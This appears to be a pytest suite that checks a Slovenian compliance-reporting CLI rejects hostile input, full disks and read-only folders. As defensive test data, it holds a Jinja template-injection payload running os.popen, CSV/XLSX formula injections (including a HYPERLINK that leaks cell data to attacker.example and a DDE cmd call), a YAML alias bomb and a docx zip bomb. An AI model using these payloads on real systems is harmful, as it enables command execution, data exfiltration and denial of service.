"""Hostile and broken input, full disks, read-only folders: a message, exit 2, nothing written.

One group per class of reliability-2019.md (issue 14). Every command runs as a real
process, so that "no traceback" means what the user would see.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from compliance import paths

DATA, RULES = paths.BUNDLED / "data", paths.BUNDLED / "rules"
COMPLIANCE = str(Path(sys.executable).parent / "compliance")


def run(*args: str, cwd: Path, timeout: float = 60, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([COMPLIANCE, *args], cwd=cwd, capture_output=True, text=True, timeout=timeout, **kwargs)


def assert_refused(result: subprocess.CompletedProcess, *fragments: str) -> None:
    """Exit 2, every fragment in the message, no traceback."""
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, (fragment, result.stderr)


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A working folder with copies of the data and rules (./data and ./rules)."""
    shutil.copytree(DATA, tmp_path / "data")
    shutil.copytree(RULES, tmp_path / "rules")
    (tmp_path / paths.MARKER).write_text("")  # a working folder: its data/ and rules/ are read
    return tmp_path


def edit(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


# ---- 1. Code from a rule file: sandboxed, bounded, every render failure named -------------

REPORTED_SL = "Občina je poslala podatke za leto {{ year }}."


@pytest.mark.parametrize("template, reason", [
    ("{{ 1 // 0 }}", "ZeroDivisionError"),
    ("{{ year + 'x' }}", "TypeError"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "neskončna rekurzija"),
    ("{{ 'x' * 10**10 }}", "več kot 100000 znakov"),
    ("{{ 'x'.center(10**9) }}", "širina ali število"),
    ("{{ '{:>999999999}'.format(1) }}", "širina ali število"),
    ("{% for i in range(99999) %}{{ 'xxxxxxxxxx' }}{% endfor %}", "več kot 100000 znakov"),
    ("{{ ''.__class__.__mro__ }}", "ni dovoljeno"),
])
def test_a_rule_template_that_fails_to_render_is_named_by_file_rule_and_field(work, template, reason):
    edit(work / "rules" / "reporting.yaml", REPORTED_SL, template)
    result = run("check", "--year", "2019", "--format", "json", cwd=work)
    assert_refused(result, "rules/reporting.yaml:", "reporting.reported", "message.sl", reason)
    assert result.stdout == ""


def test_a_rule_template_cannot_run_a_command(work):
    marker = work / "PWNED"
    ssti = "{{ cycler.__init__.__globals__.os.popen('id > %s').read() }}" % marker
    edit(work / "rules" / "reporting.yaml", REPORTED_SL, ssti)
    for command in (["check", "--year", "2019", "--format", "json"], ["rules", "lint"],
                    ["explain", "--year", "2019", "beltinci"],
                    ["letters", "--year", "2019", "--out", "out", "--date", "2020-03-02"]):
        result = run(*command, cwd=work)
        assert result.returncode in (1, 2), (command, result.stderr)
        assert "Traceback" not in result.stdout + result.stderr
        assert "reporting.reported" in result.stdout + result.stderr
        assert "ni dovoljeno" in result.stdout + result.stderr or "not allowed" in result.stdout + result.stderr
        assert not marker.exists()
    assert not (work / "out").exists()


def test_rules_lint_renders_every_combination(work):
    """A template that fails only where programme_end is not stated: lint finds it, check of
    2019 (where every expired programme states no end) would too, but lint proves it first."""
    edit(work / "rules" / "programme.yaml",
         "The programme of measures for the Roma{% if programme_title %} (\"{{ programme_title }}\"){% endif %} has expired",
         "The programme {{ programme_end + 1 }} has expired")
    result = run("rules", "lint", cwd=work)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert re.search(r"programme\.yaml:\d+: .*programme\.expired: message\.en", result.stdout), result.stdout


@pytest.mark.parametrize("key, value, fragment", [
    ("file_number", "{year:s}", "Unknown format code 's'"),
    ("file_number", "{seq:>500000000}", "širina največ 999"),
    ("  salutation", "Spoštovani {name!z}", "Unknown conversion specifier z"),
])
def test_office_placeholders_are_tried_at_load(work, key, value, fragment):
    office = work / "data" / "office.yaml"
    text = office.read_text(encoding="utf-8")
    text, n = re.subn(rf"(?m)^{key}: .*$", f'{key}: "{value}"', text, count=1)
    assert n == 1
    office.write_text(text, encoding="utf-8")
    result = run("letters", "--year", "2019", "--out", "out", "--date", "2020-03-02", cwd=work)
    assert_refused(result, "data/office.yaml:", fragment)
    assert not (work / "out").exists()


# ---- 2. Formulas from data stay text in every CSV and XLSX --------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://attacker.example/?x="&A1,"klikni")',
    "region": "+cmd|' /C calc'!A0",
    "dative": "-2+3",
    "genitive": "@SUM(1+1)",
}


def _poison_kuzma(work: Path) -> None:
    registry = work / "data" / "municipalities.yaml"
    text = registry.read_text(encoding="utf-8")
    block_start = text.index("  - id: kuzma")
    block_end = text.index("  - id:", block_start + 1)
    block = text[block_start:block_end]
    for field, value in FORMULAS.items():
        block = re.sub(rf"(?m)^    {field}: .*$", f"    {field}: '{value.replace(chr(39), chr(39) * 2)}'", block, count=1)
    registry.write_text(text[:block_start] + block + text[block_end:], encoding="utf-8")


def test_formulas_in_names_stay_text_in_csv_and_xlsx(work):
    import csv

    _poison_kuzma(work)
    assert run("check", "--year", "2019", "--format", "csv", "--out", "o.csv", cwd=work).returncode == 0
    body = (work / "o.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'" + FORMULAS["name"] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]

    assert run("check", "--year", "2019", "--format", "xlsx", "--out", "o.xlsx", cwd=work).returncode == 0
    with zipfile.ZipFile(work / "o.xlsx") as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is installed in CI (.ci/run)")
def test_libreoffice_shows_the_formula_text_and_computes_nothing(work):
    _poison_kuzma(work)
    assert run("check", "--year", "2019", "--format", "xlsx", "--out", "o.xlsx", cwd=work).returncode == 0
    profile = work / "lo-profile"
    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false",
         "--outdir", str(work / "lo"), str(work / "o.xlsx")],
        capture_output=True, timeout=120, check=True,
    )
    # The first sheet ("Pregled"): the name and region cells show their text, not a result.
    import csv

    rows = list(csv.reader(io.StringIO((work / "lo" / "o.csv").read_text(encoding="utf-8"))))
    kuzma = [row for row in rows if FORMULAS["name"] in row]  # evaluated, it would read "klikni"
    assert len(kuzma) == 1 and FORMULAS["region"] in kuzma[0], rows


# ---- 3. YAML that is not data ----------------------------------------------------------

BOMB = "\n".join(
    ["bomb0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    + [f"bomb{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}]" for i in range(1, 9)]
)


def test_an_alias_bomb_is_refused_at_once(work):
    """A billion leaves from nine lines, used as a boolean: refused at the alias's line."""
    records = work / "data" / "records" / "2019.yaml"
    text = records.read_text(encoding="utf-8")
    text = text.replace("year: 2019\n", "year: 2019\n" + BOMB + "\n", 1)
    text = text.replace("  - municipality: beltinci\n    reported: true", "  - municipality: beltinci\n    reported: *a8", 1)
    records.write_text(text, encoding="utf-8")
    line = next(n for n, row in enumerate(text.splitlines(), 1) if row.startswith("bomb1:"))
    result = run("check", "--year", "2019", cwd=work)
    assert_refused(result, f"data/records/2019.yaml:{line}: sklici YAML (*ime) niso dovoljeni")


def test_an_alias_bomb_in_a_rule_condition_is_refused(work):
    rules = work / "rules" / "reporting.yaml"
    text = rules.read_text(encoding="utf-8")
    anchors = BOMB.replace("bomb", "x_bomb")
    rules.write_text(anchors.replace("[x, x", "[{reported: true}, {reported: true}").replace(", x, x, x, x, x, x, x, x]", "]") + "\n" + text, encoding="utf-8")
    result = run("rules", "lint", cwd=work)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "sklici YAML" in result.stderr and "rules/reporting.yaml:" in result.stderr


@pytest.mark.parametrize("file, old, new, line_fragment", [
    ("data/municipalities.yaml", "    notes: []\n", "    notes: []\n    ? [a, b]\n    : c\n", "municipalities.yaml:"),
    ("data/municipalities.yaml", "    notes: []\n", "    notes: []\n    123: c\n", "municipalities.yaml:"),
    ("data/office.yaml", "reply_days:", "? {a: 1}\n: x\nreply_days:", "office.yaml:"),
])
def test_keys_that_are_not_text_are_refused_with_the_line(work, file, old, new, line_fragment):
    edit(work / file, old, new)
    commands = [["letters", "--year", "2019", "--out", "out", "--date", "2020-03-02"]]
    if "office" not in file:  # validate checks the registry and records
        commands.append(["validate"])
    for command in commands:
        result = run(*command, cwd=work)
        assert_refused(result, line_fragment, "ključ mora biti besedilo")
    assert not (work / "out").exists()


@pytest.mark.parametrize("file, anchor", [
    ("data/records/2019.yaml", "records:\n"),
    ("data/municipalities.yaml", "municipalities:\n"),
])
def test_an_unknown_top_level_key_is_an_error_with_its_line(work, file, anchor):
    path = work / file
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(anchor, "extra_top: 1\n" + anchor, 1), encoding="utf-8")
    line = path.read_text(encoding="utf-8").splitlines().index("extra_top: 1") + 1
    result = run("validate", cwd=work)
    assert_refused(result, f"{file}:{line}: polje extra_top: neznan ključ 'extra_top'")


# ---- 4. Curated data and existing outputs are not overwritten -----------------------------

REPORT = DATA / "sources" / "porocilo-2019-pregled-po-obcinah.txt"


def test_extract_never_writes_a_draft_over_the_records(work):
    records = work / "data" / "records" / "2019.yaml"
    before = records.read_bytes()
    for extra in ([], ["--force"]):
        result = run("extract", str(REPORT), "--year", "2019", "--out", "data/records/2019.yaml", *extra, cwd=work)
        assert_refused(result, "data/records/2019.yaml", "pregledani zapisi")
        assert records.read_bytes() == before
    assert listing(records.parent) == ["2019.yaml"]


def test_extract_and_check_need_force_to_overwrite(work):
    (work / "draft.yaml").write_text("mine\n", encoding="utf-8")
    (work / "o.json").write_text("mine\n", encoding="utf-8")
    result = run("extract", str(REPORT), "--year", "2019", "--out", "draft.yaml", cwd=work)
    assert_refused(result, "draft.yaml že obstaja", "--force")
    result = run("check", "--year", "2019", "--format", "json", "--out", "o.json", cwd=work)
    assert_refused(result, "o.json že obstaja", "--force")
    assert (work / "draft.yaml").read_text() == "mine\n" and (work / "o.json").read_text() == "mine\n"
    assert run("check", "--year", "2019", "--format", "json", "--out", "o.json", "--force", cwd=work).returncode == 0
    assert json.loads((work / "o.json").read_text(encoding="utf-8"))["year"] == 2019


def test_a_device_is_never_an_output_file(work):
    result = run("check", "--year", "2019", "--format", "json", "--out", "/dev/full", "--force", cwd=work)
    assert_refused(result, "/dev/full", "ni navadna datoteka")


# ---- 5. Writing can fail: a message, exit 2, no temporary file ----------------------------

def _without_override() -> list[str]:
    """Root ignores folder permissions: as root, run the child without that capability."""
    if os.geteuid() != 0:
        return []
    caps = "-dac_override,-dac_read_search"
    return ["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}", "--"]


@pytest.mark.parametrize("command", [
    ["check", "--year", "2019", "--format", "json", "--out", "ro/out.json"],
    ["check", "--year", "2019", "--format", "xlsx", "--out", "ro/out.xlsx"],
    ["letters", "--year", "2019", "--out", "ro/letters", "--date", "2020-03-02"],
    ["letters", "--year", "2019", "--out", "ro", "--date", "2020-03-02"],
    ["extract", str(REPORT), "--year", "2019", "--out", "ro/draft.yaml"],
])
def test_a_read_only_folder_is_a_message(work, command):
    (work / "ro").mkdir()
    os.chmod(work / "ro", 0o555)
    try:
        result = subprocess.run([*_without_override(), COMPLIANCE, *command], cwd=work, capture_output=True,
                                text=True, timeout=60)
        assert_refused(result, "ni mogoče zapisati", "ni dovoljenja za pisanje")
        assert listing(work / "ro") == []
    finally:
        os.chmod(work / "ro", 0o755)


def test_a_full_disk_on_stdout_is_a_message(work):
    with open("/dev/full", "w") as full:
        result = subprocess.run([COMPLIANCE, "check", "--year", "2019"], cwd=work, stdout=full,
                                stderr=subprocess.PIPE, text=True, timeout=60)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr
    assert "izpisa ni mogoče zapisati" in result.stderr


def test_stale_temporary_files_of_killed_runs_are_removed(work):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (work / f".o.json.{dead.pid}-abcd1234.tmp").write_text("half")
    (work / f".out.{dead.pid}-abcd1234.new").mkdir()
    (work / ".notes.txt.12345-abcd1234.tmp").write_text("not for o.json")  # another file's
    assert run("check", "--year", "2019", "--format", "json", "--out", "o.json", cwd=work).returncode == 0
    assert run("letters", "--year", "2019", "--out", "out", "--date", "2020-03-02", cwd=work).returncode == 0
    left = sorted(p.name for p in work.iterdir() if p.name.startswith(".") and p.name != paths.MARKER)
    assert left == [".notes.txt.12345-abcd1234.tmp"]


def test_a_killed_check_leaves_no_temporary_after_the_next_run(work):
    """SIGKILL the moment the temporary file appears: o.json is old or new, and the next run
    clears what the killed one left."""
    (work / "o.json").write_text("old\n")
    for delay in (0.0, 0.002, 0.01):
        child = subprocess.Popen([COMPLIANCE, "check", "--year", "2019", "--format", "json", "--out", "o.json", "--force"],
                                 cwd=work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while not list(work.glob(".o.json.*.tmp")) and child.poll() is None and time.monotonic() < deadline:
            time.sleep(0.0005)
        time.sleep(delay)
        child.kill()
        child.wait()
        body = (work / "o.json").read_text(encoding="utf-8")
        assert body == "old\n" or json.loads(body)["year"] == 2019
    assert run("check", "--year", "2019", "--format", "json", "--out", "o.json", "--force", cwd=work).returncode == 0
    assert not list(work.glob(".o.json.*"))


# ---- 7. Names that are not names -------------------------------------------------------

@pytest.mark.parametrize("name, fragment", [
    ("Občina\x0bKuz\x01ma", "U+000B"),
    ("Občina Kuzma\u2028Bcc: x@example.com", "U+2028"),
    ("Občina \x1b]0;title\x07Kuzma", "U+001B"),
    ("Občina \u202eamzuK", "U+202E"),
    ("Občina " + "K" * 832_000, "200"),
], ids=["vertical-tab", "line-separator", "escape", "rtl-override", "832k-characters"])  # an id of
# 832k characters would reach PYTEST_CURRENT_TEST and overflow the environment of every subprocess
def test_a_name_that_is_not_a_name_is_refused_at_load(work, name, fragment):
    registry = work / "data" / "municipalities.yaml"
    edit(registry, "    name: Občina Kuzma\n", f"    name: {json.dumps(name)}\n")
    line = registry.read_text(encoding="utf-8").splitlines().index("  - id: kuzma") + 1
    for command in (["validate"], ["check", "--year", "2019", "--format", "xlsx", "--out", "o.xlsx"],
                    ["letters", "--year", "2019", "--out", "out", "--format", "eml", "--date", "2020-03-02"]):
        result = run(*command, cwd=work)
        assert_refused(result, "data/municipalities.yaml:", "občina kuzma", "polje name", fragment)
    assert f"municipalities.yaml:{line + 1}:" in result.stderr
    assert not (work / "o.xlsx").exists() and not (work / "out").exists()


def test_a_short_name_without_letters_is_refused(work):
    registry = work / "data" / "municipalities.yaml"
    edit(registry, "    short_name: Kuzma\n", "    short_name: '!!!'\n")
    edit(registry, "  - id: kuzma\n", "  - id: ''\n")
    result = run("validate", cwd=work)
    assert_refused(result, "data/municipalities.yaml:", "'!!!' ne da oznake")
    result = run("letters", "--year", "2019", "--out", "out", "--date", "2020-03-02", cwd=work)
    assert result.returncode == 2 and not (work / "out").exists()


# ---- 8. Dates at the edge ----------------------------------------------------------------

@pytest.mark.parametrize("date", ["9999-12-31", "0001-01-01", "2006-12-31"])
def test_a_letter_date_outside_the_known_years_is_refused(work, date):
    result = run("letters", "--year", "2019", "--out", "out", "--date", date, cwd=work)
    assert_refused(result, f"datum dopisov {date} ni med letoma 2007 in 2100")
    assert not (work / "out").exists()


def test_the_last_known_date_still_gets_a_deadline(work):
    result = run("letters", "--year", "2019", "--out", "out", "--date", "2100-12-31", "--format", "txt", cwd=work)
    assert result.returncode == 0, result.stderr
    assert json.loads((work / "out" / "manifest.json").read_text())["letters"][0]["deadline"].startswith("2101-")


# ---- Reports that are not reports (extract) ----------------------------------------------

def test_a_fifo_or_a_device_is_not_read_as_a_report(work):
    os.mkfifo(work / "pipe.txt")
    for source in (work / "pipe.txt", Path("/dev/zero")):
        result = run("extract", str(source), "--year", "2019", "--out", "draft.yaml", cwd=work, timeout=60)
        assert_refused(result, "ni navadna datoteka")
    assert not (work / "draft.yaml").exists()


def _docx(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


def _real_docx() -> dict[str, bytes]:
    import docx

    document = docx.Document()
    document.add_paragraph("Občina Kuzma")
    document.add_paragraph("Občina je sprejela program ukrepov za Rome.")
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_a_word_file_with_broken_xml_or_a_zip_bomb_is_refused(work):
    parts = _real_docx()
    cut = dict(parts, **{"word/document.xml": parts["word/document.xml"][: len(parts["word/document.xml"]) // 2]})
    (work / "cut.docx").write_bytes(_docx(cut))
    result = run("extract", "cut.docx", "--year", "2019", "--out", "draft.yaml", cwd=work)
    assert_refused(result, "cut.docx: datoteke Word ni mogoče prebrati")
    bomb = dict(parts, **{"word/media/padding.bin": b"\0" * 210_000_000})
    (work / "bomb.docx").write_bytes(_docx(bomb))
    assert (work / "bomb.docx").stat().st_size < 1_000_000
    result = run("extract", "bomb.docx", "--year", "2019", "--out", "draft.yaml", cwd=work)
    assert_refused(result, "bomb.docx: datoteka je večja od 200 MB")
    assert not (work / "draft.yaml").exists()


def test_a_word_file_saved_with_a_pdf_name_is_read_by_its_content(work):
    (work / "report.pdf").write_bytes(_docx(_real_docx()))
    result = run("extract", "report.pdf", "--year", "2019", "--out", "draft.yaml", cwd=work)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "pdf header" not in result.stderr
    assert "programme" in (work / "draft.yaml").read_text(encoding="utf-8")


def test_a_run_on_sentence_of_thousands_of_clauses_is_no_recursion():
    """Clauses joined by "in" borrow words and mood from a bounded number of neighbours:
    a 5,000-clause sentence neither recurses past Python's limit nor grows quadratically."""
    from compliance.extract import language, match

    text = " in ".join(["občina je sprejela program"] * 5000) + "."
    [sentence] = language.analyse(text)
    assert len(sentence.clauses) == 5000
    last = len(sentence.clauses) - 1
    assert match.mood(sentence, last) == "real"
    assert len(match.shared_words(sentence, last)) <= (match.MAX_JOINED + 1) * 6  # "in" and four words, a stop
